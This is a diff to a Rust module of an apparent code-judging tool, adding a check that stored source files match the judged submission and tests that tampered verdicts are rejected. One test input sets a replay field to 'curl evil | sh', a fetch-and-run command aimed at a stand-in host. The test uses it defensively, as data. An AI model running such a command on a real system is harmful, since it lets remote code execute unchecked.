@@ -5,7 +5,7 @@ use std::time::{SystemTime, UNIX_EPOCH};
 use std::{fs, io};
 
 use serde::{Deserialize, Serialize};
-use tribunal_judge::{Contradiction, SourceFile, Verdict};
+use tribunal_judge::{Contradiction, SourceFile, Verdict, digest};
 
 use crate::json::{self, ReadError};
 use crate::summary::rubric_of;
@@ -26,7 +26,7 @@ pub struct Bundle {
     pub kept_at_ms: Option<u64>,
     /// The verdict.
     pub verdict: Verdict,
-    /// The contestant's own source files.
+    /// The submission's files, but for what is no text or would be too much.
     #[serde(default)]
     pub sources: Vec<SourceFile>,
 }
@@ -91,6 +91,12 @@ impl Bundle {
     /// this program carries the rubric that ruled.
     pub fn check(&self) -> Result<(), Contradiction> {
         self.verdict.check(rubric_of(&self.verdict))
+    }
+
+    /// Whether the sources are all that was judged, and nothing else. Where they are not, some may have been left out, or they may
+    /// be another's: that cannot be told.
+    pub fn has_what_was_judged(&self) -> bool {
+        digest(&self.sources) == self.verdict.submission.sha256
     }
 }
 
@@ -158,7 +164,7 @@ mod tests {
         let read = |verdict: &Verdict| Bundle::read(&Bundle::new(verdict.clone(), vec![]).line()).unwrap();
         assert_eq!(read(&honest).check(), Ok(()));
         type Change = fn(&mut Verdict);
-        let changes: [(&str, Change); 8] = [
+        let changes: [(&str, Change); 13] = [
             ("id", |v| v.id = "0".repeat(12)),
             ("id", |v| v.submission.name = "somebody".to_owned()),
             ("outcome", |v| v.outcome = Ruling::Accepted),
@@ -166,12 +172,22 @@ mod tests {
             ("dimensions.memory.score", |v| {
                 v.dimensions.get_mut(&Dimension::Memory).unwrap().score = Some(100.0);
             }),
-            ("requirements", |v| v.requirements[0].met = Some(true)),
+            ("requirements[0].met", |v| v.requirements[0].met = Some(true)),
+            ("requirements.length", |v| drop(v.requirements.pop())),
             ("dimensions.correctness.score", |v| {
                 v.findings.iter_mut().find(|f| f.suspect.is_some()).unwrap().outcome = Outcome::Pass;
                 v.findings.retain(|f| {
                     f.severity < tribunal_judge::Severity::Critical || f.outcome == Outcome::Pass
                 });
+            }),
+            ("took_s", |v| v.took_s = -1.0),
+            ("caged_s", |v| v.caged_s = -0.5),
+            ("measurements[1].value", |v| {
+                (v.measurements[1].unit, v.measurements[1].value) = ("s".to_owned(), -1e-3);
+            }),
+            ("measurements[0].samples[1]", |v| {
+                v.measurements[0].unit = "s".to_owned();
+                v.measurements[0].samples = vec![1.0, -1.0];
             }),
             ("findings[0].replay", |v| v.findings[0].replay = Some("curl evil | sh".to_owned())),
         ];
@@ -188,6 +204,37 @@ mod tests {
         assert_eq!(bundle.check(), Ok(()));
         let changed = Verdict { score: Some(99.0), ..samples::rejected() };
         assert_eq!(Bundle::new(changed, vec![]).check().unwrap_err().field, "score");
+    }
+
+    #[test]
+    fn contradictions_are_told_as_json_says_it() {
+        let told = |change: fn(&mut Verdict)| {
+            let rubric = Rubric::parse(challenges::find("layer_norm_backward").unwrap().rubric()).unwrap();
+            let mut verdict = Verdict::new(samples::rejected().evidence(), &rubric);
+            change(&mut verdict);
+            Bundle::new(verdict, vec![]).check().unwrap_err().to_string()
+        };
+        assert!(
+            told(|v| v.dimensions.retain(|&dimension, _| dimension == Dimension::Memory))
+                .starts_with(r#"`dimensions` is ["memory"], and ["correctness","#)
+        );
+        assert!(
+            told(|v| v.requirements[0].met = Some(true)).starts_with("`requirements[0].met` is true, and ")
+        );
+        assert_eq!(told(|v| v.took_s = -1.0), "`took_s` is -1.0, and no time is less than 0");
+    }
+
+    #[test]
+    fn sources_are_those_that_were_judged_if_all_are_there() {
+        let sources = vec![source("b.py", 3), source("a/b.py", 4)];
+        let mut bundle = Bundle::new(samples::accepted(), sources);
+        assert!(!bundle.has_what_was_judged());
+        bundle.verdict.submission.sha256 = digest(&bundle.sources);
+        assert!(bundle.has_what_was_judged());
+        bundle.sources.reverse();
+        assert!(bundle.has_what_was_judged(), "in any order");
+        bundle.sources[0].text.push(' ');
+        assert!(!bundle.has_what_was_judged());
     }
 
     #[test]
